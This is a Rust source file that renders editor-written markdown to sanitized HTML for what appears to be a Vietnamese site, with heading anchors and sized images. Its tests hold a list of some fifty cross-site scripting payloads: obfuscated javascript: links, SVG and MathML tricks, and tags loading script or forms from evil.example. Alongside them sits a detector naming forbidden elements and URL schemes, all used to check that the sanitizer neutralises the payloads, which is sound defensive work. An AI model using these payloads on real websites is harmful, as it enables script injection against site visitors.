//! Markdown to safe HTML, once per content change (the result is stored).

use crate::domain::text::anchor;
use ammonia::Builder;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    for tag in ["h1", "h2", "h3", "h4", "h5", "h6"] {
        builder.add_tag_attributes(tag, ["id"]);
    }
    // footnotes as pulldown-cmark writes them
    builder
        .add_tag_attributes("div", ["id", "class"])
        .add_tag_attributes("sup", ["id", "class"])
        .add_tag_attributes("li", ["id"])
        .add_tags(["section"])
        .add_tag_attributes("section", ["class"]);
    // what sized images carry, and only these values
    builder
        .add_tag_attribute_values("img", "loading", ["lazy"])
        .add_tag_attribute_values("img", "decoding", ["async"]);
    builder
});

/// Renders markdown with tables, footnotes, strikethrough and heading anchors,
/// then removes anything unsafe (scripts, event handlers, `javascript:` links…).
pub fn render(markdown: &str) -> String {
    render_with_images(markdown, &|_| None)
}

/// Like [`render`], and every image whose URL `size_of` knows (as written in
/// the markdown, e.g. `/anh/<hex>.webp`) gets its `width` and `height`, so the
/// page does not jump while it loads, and is loaded lazily. The editors'
/// preview and the public page both call this, so they cannot differ.
pub fn render_with_images(markdown: &str, size_of: &dyn Fn(&str) -> Option<(u32, u32)>) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_HEADING_ATTRIBUTES;
    let events: Vec<Event<'_>> = Parser::new_ext(markdown, options).collect();
    // anchors first: they read the alt text of images inside headings
    let events = with_heading_anchors(events);
    let events = with_image_sizes(events, size_of);
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, events.into_iter());
    SANITIZER.clean(&unsafe_html).to_string()
}

/// Gives every heading without an explicit `{#id}` an id made from its text,
/// unique within the document.
fn with_heading_anchors(mut events: Vec<Event<'_>>) -> Vec<Event<'_>> {
    let mut used: HashSet<String> = HashSet::new();
    let mut counts: HashMap<String, usize> = HashMap::new();
    let mut i = 0;
    while i < events.len() {
        if let Event::Start(Tag::Heading {
            id: None, level, ..
        }) = &events[i]
        {
            let level: HeadingLevel = *level;
            let mut text = String::new();
            for event in &events[i + 1..] {
                match event {
                    Event::End(TagEnd::Heading(l)) if *l == level => break,
                    Event::Text(t) | Event::Code(t) => text.push_str(t),
                    _ => {}
                }
            }
            let base = match anchor(&text) {
                a if a.is_empty() => "muc".to_owned(),
                a => a,
            };
            let mut candidate = base.clone();
            while used.contains(&candidate) {
                let n = counts.entry(base.clone()).or_insert(1);
                *n += 1;
                candidate = format!("{base}-{n}");
            }
            used.insert(candidate.clone());
            if let Event::Start(Tag::Heading { id, .. }) = &mut events[i] {
                *id = Some(candidate.into());
            }
        }
        i += 1;
    }
    events
}

/// Replaces each image whose size `size_of` knows with one `<img>` carrying
/// that size; the sanitizer still checks it like any other HTML.
fn with_image_sizes<'a>(
    events: Vec<Event<'a>>,
    size_of: &dyn Fn(&str) -> Option<(u32, u32)>,
) -> Vec<Event<'a>> {
    let mut out = Vec::with_capacity(events.len());
    let mut events = events.into_iter();
    while let Some(event) = events.next() {
        let sized = match &event {
            Event::Start(Tag::Image {
                dest_url, title, ..
            }) => size_of(dest_url).map(|size| (dest_url.to_string(), title.to_string(), size)),
            _ => None,
        };
        let Some((src, title, (width, height))) = sized else {
            out.push(event);
            continue;
        };
        let alt = alt_text(&mut events);
        let mut img = format!(
            r#"<img src="{}" alt="{}""#,
            html_escape::encode_double_quoted_attribute(&src),
            html_escape::encode_double_quoted_attribute(&alt),
        );
        if !title.is_empty() {
            img.push_str(&format!(
                r#" title="{}""#,
                html_escape::encode_double_quoted_attribute(&title)
            ));
        }
        img.push_str(&format!(
            r#" width="{width}" height="{height}" loading="lazy" decoding="async">"#
        ));
        out.push(Event::InlineHtml(img.into()));
    }
    out
}

/// The plain text of an image's description, consuming its events up to and
/// including the image's end, as pulldown-cmark itself writes `alt`.
fn alt_text<'a>(events: &mut impl Iterator<Item = Event<'a>>) -> String {
    let mut alt = String::new();
    let mut depth = 0usize;
    for event in events {
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) if depth == 0 => break,
            Event::End(_) => depth -= 1,
            Event::Text(t) | Event::Code(t) | Event::InlineHtml(t) => alt.push_str(&t),
            Event::SoftBreak | Event::HardBreak => alt.push(' '),
            _ => {}
        }
    }
    alt
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn headings_get_accent_free_anchors() {
        let html = render("## Bước 1: Mở ứng dụng\n\n## Bước 1: Mở ứng dụng\n");
        assert!(html.contains(r#"<h2 id="buoc-1-mo-ung-dung">"#), "{html}");
        assert!(html.contains(r#"<h2 id="buoc-1-mo-ung-dung-2">"#), "{html}");
    }

    #[test]
    fn tables_footnotes_and_strikethrough_are_rendered() {
        let html = render(
            "| a | b |\n|---|---|\n| 1 | 2 |\n\nChữ ~~gạch~~ và chú thích[^1].\n\n[^1]: Nguồn.\n",
        );
        assert!(html.contains("<table>"), "{html}");
        assert!(html.contains("<del>gạch</del>"), "{html}");
        assert!(html.contains("footnote-definition"), "{html}");
    }

    #[test]
    fn scripts_and_javascript_links_are_removed() {
        let html = render(
            "<script>alert(1)</script>\n\n[bấm](javascript:alert(1)) <img src=x onerror=alert(1)>",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("onerror"), "{html}");
    }

    #[test]
    fn links_get_safe_rel() {
        let html = render("[Cổng DVC](https://dichvucong.gov.vn)");
        assert!(
            html.contains(r#"href="https://dichvucong.gov.vn""#),
            "{html}"
        );
        assert!(html.contains("noopener"), "{html}");
    }

    const PICTURE: &str = "/anh/0123456789abcdef0123456789abcdef.png";

    fn picture_size(url: &str) -> Option<(u32, u32)> {
        (url == PICTURE).then_some((800, 600))
    }

    #[test]
    fn known_images_get_their_size_and_load_lazily() {
        let html = render_with_images(
            &format!("![Màn hình \"đăng nhập\"]({PICTURE})"),
            &picture_size,
        );
        assert!(
            html.contains(&format!(
                r#"<img src="{PICTURE}" alt="Màn hình &quot;đăng nhập&quot;" width="800" height="600" loading="lazy" decoding="async">"#
            )),
            "{html}"
        );
    }

    #[test]
    fn a_sized_image_keeps_its_title_and_plain_alt_text() {
        let html = render_with_images(
            &format!("![Bước **một** `mã`]({PICTURE} \"Chú thích\")"),
            &picture_size,
        );
        assert!(html.contains(r#"alt="Bước một mã""#), "{html}");
        assert!(html.contains(r#"title="Chú thích""#), "{html}");
        assert!(html.contains(r#"width="800" height="600""#), "{html}");
    }

    #[test]
    fn unknown_images_are_left_as_they_were() {
        let markdown = format!("![a]({PICTURE}) ![b](/anh/ffffffffffffffffffffffffffffffff.webp)");
        let html = render_with_images(&markdown, &picture_size);
        assert_eq!(html.matches("width=").count(), 1, "{html}");
        assert!(
            html.contains(r#"<img src="/anh/ffffffffffffffffffffffffffffffff.webp" alt="b">"#),
            "{html}"
        );
    }

    #[test]
    fn render_is_render_with_no_known_sizes() {
        let markdown =
            format!("# Ảnh ![đầu]({PICTURE})\n\n![x]({PICTURE} \"t\") và [liên kết](/a)\n");
        assert_eq!(render(&markdown), render_with_images(&markdown, &|_| None));
        assert!(!render(&markdown).contains("loading="));
    }

    #[test]
    fn an_image_in_a_heading_keeps_the_same_anchor_when_sized() {
        let markdown = format!("## Mở ![ứng dụng]({PICTURE})\n");
        let sized = render_with_images(&markdown, &picture_size);
        assert!(sized.contains(r#"<h2 id="mo-ung-dung">"#), "{sized}");
        assert!(render(&markdown).contains(r#"<h2 id="mo-ung-dung">"#));
    }

    #[test]
    fn sized_images_still_go_through_the_sanitizer() {
        let any_size = |_: &str| Some((1, 1));
        let html = render_with_images(
            "![x\" onerror=\"alert(1)](javascript:alert(1)) ![<img src=x onerror=alert(1)>](/anh/a.png)",
            &any_size,
        );
        assert_hostile_neutralised(&html).unwrap_or_else(|e| panic!("{e}: {html}"));
        assert!(
            html.contains(r#"alt="x&quot; onerror=&quot;alert(1)""#),
            "{html}"
        );
    }

    #[test]
    fn loading_and_decoding_are_kept_only_with_the_values_we_write() {
        let html = render(r#"<img src="/a.png" loading="eager" decoding="sync" width="3">"#);
        assert!(!html.contains("loading="), "{html}");
        assert!(!html.contains("decoding="), "{html}");
        assert!(html.contains(r#"width="3""#), "{html}");
    }

    /// Markdown bodies an attacker might submit as an editor, each with the
    /// harmless text that must still be shown.
    const HOSTILE: &[(&str, &[&str])] = &[
        (
            "Chào bạn <script>alert(1)</script> nhé",
            &["Chào bạn", "nhé"],
        ),
        (
            "<script src=\"https://evil.example/x.js\"></script>\n\nĐoạn sau",
            &["Đoạn sau"],
        ),
        ("Ảnh <img src=x onerror=alert(1)> đây", &["Ảnh", "đây"]),
        ("<a href=\"javascript:alert(1)\">bấm</a>", &["bấm"]),
        ("[bấm vào đây](javascript:alert(1))", &["bấm vào đây"]),
        ("[x](JaVaScRiPt:alert(1))", &[]),
        ("[x](&#106;avascript:alert(1))", &[]),
        ("[x](&#x6A;&#x61;vascript&#58;alert(1))", &[]),
        (
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            &[],
        ),
        (
            "<a href=\"java&#x09;script:alert(1)\">x</a> <a href=\"java&#x0A;script:alert(1)\">y</a>",
            &[],
        ),
        (
            "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            &[],
        ),
        (
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            &[],
        ),
        (
            "[x](vbscript:msgbox(1)) <a href=\"VBScript:msgbox(1)\">y</a>",
            &[],
        ),
        ("<svg onload=alert(1)><circle r=\"5\"/></svg>", &[]),
        ("<svg><script>alert(1)</script></svg>", &[]),
        (
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            &[],
        ),
        (
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            &[],
        ),
        (
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            &[],
        ),
        (
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            &[],
        ),
        ("<iframe src=\"https://evil.example\"></iframe>", &[]),
        ("<object data=\"javascript:alert(1)\"></object>", &[]),
        ("<embed src=\"javascript:alert(1)\">", &[]),
        (
            "<base href=\"https://evil.example/\">\n\n[trang](/bai-hoc)",
            &["trang"],
        ),
        (
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            &[],
        ),
        (
            "<form action=\"https://evil.example\"><input name=p><button formaction=\"javascript:alert(1)\">Gửi</button></form>",
            &["Gửi"],
        ),
        (
            "<style>@import 'https://evil.example/x.css';</style>\n\nVăn bản",
            &["Văn bản"],
        ),
        (
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            &[],
        ),
        (
            "<div style=\"background:url(javascript:alert(1))\">khung</div>",
            &["khung"],
        ),
        ("<p style=\"position:fixed;inset:0\">phủ</p>", &["phủ"]),
        (
            "<details open ontoggle=alert(1)><summary>Mở</summary>nội dung</details>",
            &["Mở"],
        ),
        ("<input autofocus onfocus=alert(1)>", &[]),
        (
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            &[],
        ),
        ("<template><script>alert(1)</script></template>", &[]),
        ("<javascript:alert(1)>", &[]),
        ("[bấm][ref]\n\n[ref]: javascript:alert(1)\n", &["bấm"]),
        (
            "[bấm][ref]\n\n[ref]: <JAVASCRIPT:alert(1)> \"tiêu đề\"\n",
            &["bấm"],
        ),
        ("<!--><script>alert(1)</script>-->", &[]),
        ("<!-- <script>alert(1)</script> -->\n\nHiện", &["Hiện"]),
        ("<a href=\"  javascript:alert(1)\">a</a>", &[]),
        ("<a href=\"\tjavascript:alert(1)\">b</a>", &[]),
        ("<a href=\"\njavascript:alert(1)\">c</a>", &[]),
        ("<a href=\"&#0;javascript:alert(1)\">d</a>", &[]),
        ("[x](<javascript:alert(1)>)", &[]),
        (
            "<map><area href=\"javascript:alert(1)\" shape=rect coords=0,0,9,9></map>",
            &[],
        ),
        (
            "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
            &[],
        ),
        ("<scr<script>ipt>alert(1)</script>", &[]),
        ("<img src=x onerror=alert(1)//", &[]),
        (
            "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"color:red\">ổn</a>",
            &["ổn", "href=\"https://ok.example\""],
        ),
        (
            "```html\n<script>alert(1)</script>\n```",
            &["&lt;script&gt;alert(1)&lt;/script&gt;"],
        ),
        (
            "Mã `<img src=x onerror=alert(1)>` thôi",
            &["<code>&lt;img src=x onerror=alert(1)&gt;</code>"],
        ),
        (
            "    <iframe src=javascript:alert(1)></iframe>",
            &["&lt;iframe src=javascript:alert(1)&gt;&lt;/iframe&gt;"],
        ),
    ];

    #[test]
    fn hostile_markdown_is_neutralised() {
        let mut failures = Vec::new();
        for (markdown, shown) in HOSTILE {
            let html = render(markdown);
            if let Err(problem) = assert_hostile_neutralised(&html) {
                failures.push(format!("{markdown:?}\n  → {html:?}\n  {problem}"));
            }
            for text in *shown {
                if !html.contains(text) {
                    failures.push(format!("{markdown:?}\n  → {html:?}\n  lost {text:?}"));
                }
            }
        }
        assert!(HOSTILE.len() >= 25);
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    #[test]
    fn the_hostile_checker_catches_what_it_looks_for() {
        for unsafe_html in [
            "<p>a</p><script>alert(1)</script>",
            "<IMG SRC=x ONERROR=alert(1)>",
            "<a href='  JaVa&#x53;cript:alert(1)'>x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<img src=data:image/svg+xml,x>",
            "<p style=\"color:red\">x</p>",
            "<!--><script>alert(1)</script>-->",
            "<details open ontoggle=alert(1)>",
        ] {
            assert!(
                assert_hostile_neutralised(unsafe_html).is_err(),
                "{unsafe_html}"
            );
        }
        // a quoted `>` or ` on…=` inside a value is text, not markup
        assert_eq!(
            assert_hostile_neutralised(r#"<p title="x> <img src=x onerror=alert(1)>">y</p>"#),
            Ok(())
        );
    }

    /// Elements that must never come out of the sanitizer.
    const FORBIDDEN_ELEMENTS: &[&str] = &[
        "script", "iframe", "object", "embed", "base", "meta", "form", "style", "link", "svg",
        "math", "template", "input", "button", "noscript", "frame", "applet",
    ];

    /// Attributes whose value a browser follows as a URL.
    const URL_ATTRIBUTES: &[&str] = &[
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "cite",
        "srcset",
        "srcdoc",
    ];

    /// Checks sanitised HTML for anything that could run script or restyle the
    /// page; names the first problem found.
    fn assert_hostile_neutralised(html: &str) -> Result<(), String> {
        for tag in tags(&html.to_lowercase())? {
            if FORBIDDEN_ELEMENTS.contains(&tag.name.as_str()) {
                return Err(format!("<{}> survived", tag.name));
            }
            for (name, value) in &tag.attributes {
                if name.starts_with("on") {
                    return Err(format!("event handler {name} on <{}>", tag.name));
                }
                if name == "style" {
                    return Err(format!("style on <{}>", tag.name));
                }
                if URL_ATTRIBUTES.contains(&name.as_str()) {
                    let url: String = html_escape::decode_html_entities(value)
                        .chars()
                        .filter(|c| !(c.is_ascii_whitespace() || c.is_control()))
                        .collect::<String>()
                        .to_lowercase();
                    for scheme in ["javascript:", "vbscript:", "data:"] {
                        if url.starts_with(scheme) {
                            return Err(format!("{name}={value:?} on <{}>", tag.name));
                        }
                    }
                }
            }
        }
        Ok(())
    }

    struct StartTag {
        name: String,
        attributes: Vec<(String, String)>,
    }

    /// The start tags of serialised HTML with their attributes, reading quoted
    /// values whole (a `>` inside `title="…"` does not end the tag).
    fn tags(html: &str) -> Result<Vec<StartTag>, String> {
        let mut found = Vec::new();
        let mut rest = html;
        while let Some(open) = rest.find('<') {
            rest = &rest[open + 1..];
            // the sanitizer strips comments; one left over (`<!-->` closes
            // at once in a browser) would mean we misread the output
            if rest.starts_with('!') {
                return Err("a comment or declaration survived".to_owned());
            }
            if rest.starts_with('/') {
                let end = rest.find('>').ok_or("unclosed end tag")?;
                rest = &rest[end + 1..];
                continue;
            }
            let name_len = rest
                .find(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
                .unwrap_or(rest.len());
            let mut tag = StartTag {
                name: rest[..name_len].to_owned(),
                attributes: Vec::new(),
            };
            if tag.name.is_empty() {
                return Err("a bare < in the output".to_owned());
            }
            rest = &rest[name_len..];
            loop {
                rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
                if let Some(after) = rest.strip_prefix('>') {
                    rest = after;
                    break;
                }
                if rest.is_empty() {
                    return Err(format!("unclosed <{}>", tag.name));
                }
                let name_len = rest
                    .find(|c: char| c.is_ascii_whitespace() || c == '=' || c == '>' || c == '/')
                    .unwrap_or(rest.len());
                let name = rest[..name_len].to_owned();
                rest = rest[name_len..].trim_start();
                let mut value = String::new();
                if let Some(after) = rest.strip_prefix('=') {
                    let after = after.trim_start();
                    let (quote, body) = match after.chars().next() {
                        Some(q @ ('"' | '\'')) => (Some(q), &after[1..]),
                        _ => (None, after),
                    };
                    let end = match quote {
                        Some(q) => body.find(q).ok_or("unclosed attribute value")?,
                        None => body
                            .find(|c: char| c.is_ascii_whitespace() || c == '>')
                            .unwrap_or(body.len()),
                    };
                    value = body[..end].to_owned();
                    rest = &body[end + usize::from(quote.is_some())..];
                }
                tag.attributes.push((name, value));
            }
            found.push(tag);
        }
        Ok(found)
    }
}
